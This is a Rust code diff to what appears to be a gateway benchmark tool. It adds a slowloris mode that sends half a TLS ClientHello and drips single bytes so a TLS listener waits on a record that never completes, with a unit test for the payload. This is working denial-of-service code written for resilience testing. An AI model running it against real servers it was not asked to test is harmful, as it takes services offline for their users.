@@ -4,6 +4,11 @@
 //! gateway drops it (its `server.handshake_timeout` covers the whole head),
 //! the socket is reopened, so about N are always pending. This is the
 //! attacker's side of the "under attack" benchmark (issue 6).
+//!
+//! `--payload tls-hello` sends the first half of a TLS ClientHello record
+//! instead (issue 28): the record header promises 512 bytes, 256 follow,
+//! and each drip adds one more, so a TLS listener waits for the rest of a
+//! record that never completes.
 
 use std::cell::{Cell, RefCell};
 use std::collections::BTreeMap;
@@ -54,6 +59,51 @@ pub struct SlowlorisArgs {
     /// Write "open=N" to this file when the ramp is complete.
     #[arg(long)]
     pub ready_file: Option<PathBuf>,
+    /// What each socket sends: the start of an HTTP request head, or half
+    /// a TLS ClientHello record (for a TLS listener).
+    #[arg(long, value_enum, default_value_t = Payload::HttpHead)]
+    pub payload: Payload,
+    /// Wait this long before reopening a socket the gateway dropped (a
+    /// gateway that refuses at once would otherwise see a reconnect loop).
+    #[arg(long, value_parser = humantime::parse_duration, default_value = "0s")]
+    pub reopen_delay: Duration,
+}
+
+#[derive(clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Payload {
+    /// `GET <path> HTTP/1.1`, `Host`, then an `X-Slow:` header never ended.
+    HttpHead,
+    /// Half a ClientHello record; drips stay inside the record.
+    TlsHello,
+}
+
+/// The TLS record a `tls-hello` socket never finishes: a handshake record
+/// of this many bytes, of which [`TLS_HELLO_SENT`] are sent at once.
+const TLS_RECORD_LEN: usize = 512;
+const TLS_HELLO_SENT: usize = TLS_RECORD_LEN / 2;
+
+/// The record header and the first half of a ClientHello body: handshake
+/// type 1 with its length, legacy version 3,3, a random, an empty session
+/// id and the start of a cipher-suite list. A TLS server buffers a record
+/// until it is complete before it parses any of it.
+fn half_client_hello() -> Vec<u8> {
+    let record = TLS_RECORD_LEN as u16;
+    let body = (TLS_RECORD_LEN - 4) as u32;
+    let mut h = vec![0x16, 0x03, 0x01];
+    h.extend_from_slice(&record.to_be_bytes());
+    h.push(0x01);
+    h.extend_from_slice(&body.to_be_bytes()[1..]);
+    h.extend_from_slice(&[0x03, 0x03]);
+    h.extend((0u8..32).map(|i| i.wrapping_mul(37)));
+    h.push(0);
+    h.extend_from_slice(&[0x00, 0x40]);
+    // TLS_AES_128_GCM_SHA256, repeated: any bytes do, the record never ends.
+    while h.len() < 5 + TLS_HELLO_SENT {
+        h.extend_from_slice(&[0x13, 0x01]);
+    }
+    h.truncate(5 + TLS_HELLO_SENT);
+    h
 }
 
 #[derive(Default)]
@@ -74,6 +124,7 @@ struct Report {
     mode: &'static str,
     url: String,
     connections_requested: usize,
+    payload: Payload,
     sources: usize,
     max_per_source: usize,
     drip_s: f64,
@@ -148,9 +199,17 @@ pub async fn run(args: SlowlorisArgs, json: bool, nofile: u64) -> anyhow::Result
         .map_or_else(|| target.addr.to_string(), |a| a.as_str().to_string());
     // The head never ends: the last header line is left open, and each drip
     // adds one byte to its value.
-    let prefix: Rc<[u8]> = format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nX-Slow: ")
-        .into_bytes()
-        .into();
+    let prefix: Rc<[u8]> = match args.payload {
+        Payload::HttpHead => format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nX-Slow: ")
+            .into_bytes()
+            .into(),
+        Payload::TlsHello => half_client_hello().into(),
+    };
+    // A drip must not complete the ClientHello record.
+    let max_drips = match args.payload {
+        Payload::HttpHead => u64::MAX,
+        Payload::TlsHello => (TLS_RECORD_LEN - TLS_HELLO_SENT - 1) as u64,
+    };
 
     let stop = Stop::new();
     stop.on_ctrl_c();
@@ -159,11 +218,15 @@ pub async fn run(args: SlowlorisArgs, json: bool, nofile: u64) -> anyhow::Result
     let answer_example: Rc<RefCell<Option<String>>> = Rc::new(RefCell::new(None));
 
     eprintln!(
-        "slowloris: {} ({}) keeping {} request heads pending from {} sources \
+        "slowloris: {} ({}) keeping {} {} pending from {} sources \
          (≤ {per_source} each), one byte every {}, ramp {}/s, then holding {}",
         args.url,
         target.addr,
         args.connections,
+        match args.payload {
+            Payload::HttpHead => "request heads",
+            Payload::TlsHello => "TLS ClientHellos",
+        },
         sources.len(),
         humantime::format_duration(args.drip),
         args.ramp_per_sec,
@@ -181,6 +244,8 @@ pub async fn run(args: SlowlorisArgs, json: bool, nofile: u64) -> anyhow::Result
                 source: sources[tasks.len() % sources.len()],
                 prefix: prefix.clone(),
                 drip: args.drip,
+                max_drips,
+                reopen_delay: args.reopen_delay,
                 timeout: args.timeout,
                 stop: stop.clone(),
                 state: state.clone(),
@@ -256,6 +321,7 @@ pub async fn run(args: SlowlorisArgs, json: bool, nofile: u64) -> anyhow::Result
         mode: "slowloris",
         url: args.url.clone(),
         connections_requested: args.connections,
+        payload: args.payload,
         sources: sources.len(),
         max_per_source: per_source,
         drip_s: args.drip.as_secs_f64(),
@@ -300,8 +366,8 @@ fn print_human(r: &Report) {
     row(
         "requested",
         format!(
-            "{} sockets from {} sources (≤ {} each), drip every {} s",
-            r.connections_requested, r.sources, r.max_per_source, r.drip_s
+            "{} sockets from {} sources (≤ {} each), drip every {} s, payload {:?}",
+            r.connections_requested, r.sources, r.max_per_source, r.drip_s, r.payload
         ),
     );
     row("open at ready", r.open_at_ready);
@@ -347,6 +413,9 @@ struct Slot {
     source: IpAddr,
     prefix: Rc<[u8]>,
     drip: Duration,
+    /// Drips per socket at most (the TLS record must stay unfinished).
+    max_drips: u64,
+    reopen_delay: Duration,
     timeout: Duration,
     stop: Stop,
     state: Rc<State>,
@@ -381,6 +450,12 @@ impl Slot {
             self.state.connects.set(self.state.connects.get() + 1);
             match self.hold(stream, &mut rx).await {
                 Ok(End::Stopped) => return,
+                Ok(End::Dropped) if !self.reopen_delay.is_zero() => {
+                    tokio::select! {
+                        _ = sleep(self.reopen_delay) => {}
+                        _ = stopped(&mut rx) => return,
+                    }
+                }
                 Ok(End::Dropped) => {}
                 Err(f) => self.fail(f, &mut rx).await,
             }
@@ -437,6 +512,7 @@ impl Slot {
     ) -> End {
         let mut buf = [0u8; 256];
         let mut next = Instant::now() + self.drip;
+        let mut drips = 0u64;
         loop {
             tokio::select! {
                 _ = stopped(rx) => return End::Stopped,
@@ -455,8 +531,9 @@ impl Slot {
                     }
                     return End::Dropped;
                 }
-                _ = tokio::time::sleep_until(next) => {
+                _ = tokio::time::sleep_until(next), if drips < self.max_drips => {
                     next += self.drip;
+                    drips += 1;
                     // A write to a socket the server closed may still succeed
                     // (the reset comes later); the read above sees the end.
                     match timeout(self.timeout, stream.write_all(b"a")).await {
@@ -489,6 +566,24 @@ mod tests {
         assert_eq!(
             parse_sources("127.0.0.255-127.0.1.1").map(|v| v.len()).ok(),
             Some(3)
+        );
+    }
+
+    #[test]
+    fn half_client_hello_is_an_unfinished_record() {
+        let h = half_client_hello();
+        assert_eq!(h.len(), 5 + TLS_HELLO_SENT);
+        // Handshake record, TLS 1.0 record version, the promised length.
+        assert_eq!(&h[..3], &[0x16, 0x03, 0x01]);
+        assert_eq!(
+            usize::from(u16::from_be_bytes([h[3], h[4]])),
+            TLS_RECORD_LEN
+        );
+        // A ClientHello whose length fills the record.
+        assert_eq!(h[5], 0x01);
+        assert_eq!(
+            u32::from_be_bytes([0, h[6], h[7], h[8]]) as usize,
+            TLS_RECORD_LEN - 4
         );
     }
 
